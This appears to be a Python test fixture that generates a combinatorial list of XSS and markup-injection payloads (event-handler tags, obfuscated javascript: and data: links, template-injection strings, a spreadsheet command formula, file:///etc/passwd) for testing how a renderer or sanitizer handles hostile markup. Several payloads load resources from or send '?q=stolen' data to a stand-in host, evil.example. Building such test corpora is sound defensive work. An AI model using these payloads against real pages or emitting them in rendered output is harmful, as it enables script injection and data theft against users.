"""Hostile markup, made from small tables: what would call `canary()` or fetch from elsewhere if it were believed."""

from itertools import product

EVIL = "http://evil.example"
CALL = "canary(1)"

ELEMENTS = (
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<script>{CALL}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}>x</textarea>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<table><td background={EVIL}/x.png>x",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button autofocus>x</button></form>",
    f"<img src={EVIL}/x.png>",
    f"<p style='background:url({EVIL}/x.png)'>x</p>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<div onmouseover={CALL} style='position:fixed;inset:0'>x</div>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>x</a>",
    f"<button popovertarget=x onfocus={CALL} autofocus>x</button>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<tool-card onclick={CALL}><approval-card data-x='\"><img src=x onerror={CALL}>'>",
)
WRAPPED = (
    "{}",
    "**{}**",
    "> {}",
    "- {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "`{}`",
    "```html\n{}\n```",
    "[{}](x)",
    "a\u202e{}\u202c",
)
LINKS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java&#10;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"\u0001javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    f"{EVIL}/c?q=stolen",
    "//evil.example/c?q=stolen",
    "\\\\evil.example\\c",
)
LINKED = ("[x]({})", "![x]({})", "[![x]({})](y)", "<{}>", "[x]: {}\n\n[x] ![x]", '[x]({} "onmouseover=canary(1)")')
FENCES = (
    f"```{EVIL} onload={CALL}\nx\n```",
    f'```mermaid\ngraph TD\nA-->B\nclick A href "javascript:{CALL}"\n```',
    f"$$\\href{{javascript:{CALL}}}{{x}}$$",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<%= {CALL} %>",
    f"\x1b]8;;javascript:{CALL}\x07x\x1b]8;;\x07",
    f"=cmd|'/c {CALL}'!A1",
)

PAYLOADS: tuple[str, ...] = (
    *(wrap.format(element) for element, wrap in product(ELEMENTS, WRAPPED)),
    *(wrap.format(link) for link, wrap in product(LINKS, LINKED)),
    *FENCES,
)


def batches(size: int) -> list[str]:
    """All payloads in texts of so many, each on lines of its own."""
    return ["\n\n".join(PAYLOADS[start : start + size]) for start in range(0, len(PAYLOADS), size)]
